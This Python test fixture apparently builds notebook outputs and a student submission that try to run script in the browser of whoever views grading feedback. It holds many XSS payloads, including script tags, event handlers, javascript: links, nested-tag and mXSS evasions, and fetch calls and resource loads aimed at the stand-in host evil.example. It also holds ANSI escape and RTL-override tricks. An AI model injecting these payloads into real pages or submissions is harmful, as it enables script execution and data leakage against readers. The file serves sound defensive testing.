"""Outputs and answers that try to act in the browser of whoever reads the feedback."""

from __future__ import annotations

from typing import Any

from tests.grading.small_course import student_notebook
from tito.lessons import notebook as nb

SCRIPT = "document.title='stolen';fetch('https://evil.example/seen')"
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"
    "AAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)

HTML = [
    f"<script>{SCRIPT}</script>",
    f"<scr<script>ipt>{SCRIPT}</scr</script>ipt>",
    "<script src=https://evil.example/a.js></script>",
    f'<img src=x onerror="{SCRIPT}">',
    "<img src='https://evil.example/seen.png'>",
    "<img srcset='https://evil.example/seen.png 1x' src='//evil.example/b.png'>",
    f"<a href=\"javascript:{SCRIPT}\">x</a><a href=' java\tscript:alert(1)'>y</a>",
    "<iframe src='https://evil.example'></iframe><iframe srcdoc='<script>1</script>'>",
    f'<svg onload="{SCRIPT}"><script>{SCRIPT}</script></svg>',
    f'<math><mtext><style><img src=x onerror="{SCRIPT}"></style></mtext></math>',
    f'<noscript><p title="</noscript><img src=x onerror={SCRIPT}>">',
    "<style>@import url(https://evil.example/a.css); body { display: none }</style>",
    "<div style='position:fixed;top:0;background:url(https://evil.example/x)'>100 / 100</div>",
    "<div class='navbar navbar-fixed-top'>Score: 100 / 100</div>",
    "<link rel=stylesheet href=https://evil.example/a.css><base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=q autofocus onfocus=alert(1)></form>",
    f"<video src=https://evil.example/v onerror={SCRIPT}></video><object data=x></object>",
    f"</pre></div></body><script>{SCRIPT}</script>",
    f"<!--><img src=x onerror={SCRIPT}>-->",
    f"<details open ontoggle={SCRIPT}><summary>x</summary></details>",
    "<embed src=https://evil.example/e><applet code=x></applet><frame src=https://evil.example>",
]
ANSI = [
    "\x1b[38;2;1;2;3m\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    '\x1b["><script>1</script>m\x1b[31;"onclick=1m',
    "\x1b[2J\x1b[1;1Hoverwritten\r\x08\x08\x00",
    "\u202egnp.exe",
]


def display(data: dict[str, Any], metadata: dict[str, Any] | None = None) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": metadata or {}}


def hostile_outputs() -> list[dict[str, Any]]:
    """One output or more for each way in."""
    outputs: list[dict[str, Any]] = []
    for text in [*HTML, *ANSI]:
        outputs += [
            {"output_type": "stream", "name": "stdout", "text": text},
            {"output_type": "stream", "name": "stderr", "text": text},
            {"output_type": "error", "ename": text, "evalue": text, "traceback": [text, text]},
            display({"text/html": text, "text/plain": text}),
            display({"text/html": text}),
            display({"text/markdown": text}),
            display({"text/latex": text}),
            display({"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{text}</svg>"}),
            display({"application/javascript": text}),
            display({"image/png": f'{PIXEL}"{text}'}),
        ]
    remote = "https://evil.example/seen.png"
    outputs += [
        display({"image/png": PIXEL}, {"filenames": {"image/png": remote}}),
        display({"image/png": PIXEL}, {"image/png": {"width": "1 onerror=alert(1)"}}),
        display({"text/html": "<b>x</b>"}, {"text/html": {"isolated": True}}),
        display({"application/vnd.plotly.v1+json": {"data": [{"x": "</script>"}]}}),
        display({"application/vnd.vega.v5+json": {"url": remote}}),
        display({"application/vnd.jupyter.widget-view+json": {"model_id": "<script>"}}),
        display({"text/vnd.mermaid": "graph TD; A-->B"}),
        display({"application/pdf": "JVBERi0="}),
    ]
    return outputs


def hostile_submission() -> nb.Notebook:
    """A submission whose texts are hostile too: an answer, code, added cells."""
    notebook = student_notebook()
    for cell in notebook["cells"]:
        if nb.grade_id(cell) == "question_why":
            cell["source"] = (
                "\n\n".join(HTML) + f"\n\n[x](javascript:{SCRIPT}) ![y](https://evil.example/p)"
            )
        elif nb.grade_id(cell) == "middle":
            cell["source"] += "\n# " + " ".join(HTML)
    added = nb.new_cell("markdown", "# Mine\n\n" + "\n".join(HTML), "mine", {})
    notebook["cells"].insert(3, added)
    return notebook
